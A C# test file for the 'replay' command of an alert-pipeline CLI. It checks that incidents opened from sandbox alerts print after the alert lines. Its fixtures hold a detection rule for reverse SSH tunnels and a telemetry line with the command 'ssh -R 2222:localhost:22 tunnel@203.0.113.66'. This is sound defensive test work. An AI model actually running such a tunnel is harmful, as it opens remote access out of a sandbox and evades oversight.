using System.Text.Json;
using AlertPipeline.Cli.Commands;

namespace AlertPipeline.Cli.Tests.Commands;

/// <summary>
/// <c>replay</c> prints the incidents its alerts joined after the alerts: the tracker composed into replay opens them.
/// </summary>
public sealed class ReplayIncidentsTests : IDisposable
{
    private readonly string _dir = Directory.CreateTempSubdirectory("alertpipe-replay-incidents-").FullName;

    public void Dispose() => Directory.Delete(_dir, recursive: true);

    private (string Telemetry, string Rules) Files()
    {
        Directory.CreateDirectory(Path.Combine(_dir, "rules", "default"));
        File.WriteAllText(Path.Combine(_dir, "rules", "default", "tunnel.yml"), """
            title: Reverse SSH tunnel from a sandbox
            id: 0b6f1e0a-6a55-4f0e-9a0e-3d1b1c2f0a01
            status: test
            level: high
            tags:
              - attack.t1572
            logsource:
              product: linux
              category: process_creation
            detection:
              selection:
                process.command_line|contains: 'ssh -R'
              condition: selection
            """);
        var telemetry = Path.Combine(_dir, "t.jsonl");
        File.WriteAllText(telemetry, """{"@timestamp":"2025-11-14T03:12:41.020Z","event":{"category":"process","type":"start"},"sandbox":{"id":"rl-env-7731"},"process":{"command_line":"ssh -R 2222:localhost:22 tunnel@203.0.113.66","pid":4242}}""");
        return (telemetry, Path.Combine(_dir, "rules"));
    }

    [Fact]
    public async Task Json_output_prints_the_incident_line_after_the_alert_lines()
    {
        var (telemetry, rules) = Files();

        var run = await CliRun.RunAsync("replay", telemetry, "--rules", rules, "--output", "json");

        Assert.Equal(0, run.ExitCode);
        var lines = run.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        var alertLines = ReplayOutput.AlertLines(run.Stdout);
        var alertId = JsonDocument.Parse(Assert.Single(alertLines)).RootElement.GetProperty("alertId").GetString();
        Assert.Equal(alertLines, lines.Take(alertLines.Count));

        // The tracker composed into replay opened the incident; it follows the alert lines.
        var incident = JsonDocument.Parse(Assert.Single(ReplayOutput.IncidentLines(run.Stdout))).RootElement;
        Assert.Equal(lines[^1], ReplayOutput.IncidentLines(run.Stdout)[0]);
        Assert.Equal("rl-env-7731", incident.GetProperty("sandboxId").GetString());
        Assert.Equal("high", incident.GetProperty("level").GetString());
        Assert.Equal(["T1572"], incident.GetProperty("techniques").EnumerateArray().Select(t => t.GetString()));
        Assert.Equal([alertId], incident.GetProperty("alertIds").EnumerateArray().Select(a => a.GetString()));
        Assert.Contains(incident.GetProperty("timeline").EnumerateArray(), e => e.GetProperty("kind").GetString() == "alert" && e.GetProperty("alertId").GetString() == alertId);
        Assert.Contains("incidents: 1", run.Stderr, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Table_output_prints_the_story_after_the_alert_table_and_before_the_previews()
    {
        var (telemetry, rules) = Files();

        var run = await CliRun.RunAsync("replay", telemetry, "--rules", rules);

        Assert.Equal(0, run.ExitCode);
        var alertRow = run.Stdout.IndexOf("Reverse SSH tunnel from a sandbox", StringComparison.Ordinal);
        var story = run.Stdout.IndexOf("  sandbox rl-env-7731  status open", StringComparison.Ordinal);
        var previews = run.Stdout.IndexOf("Would send", StringComparison.Ordinal);
        Assert.True(alertRow >= 0 && story > alertRow && previews > story, run.Stdout);
        Assert.Contains("  03:12:41.020Z  alert        [high] alert \"Reverse SSH tunnel from a sandbox\"", run.Stdout, StringComparison.Ordinal);
    }
}
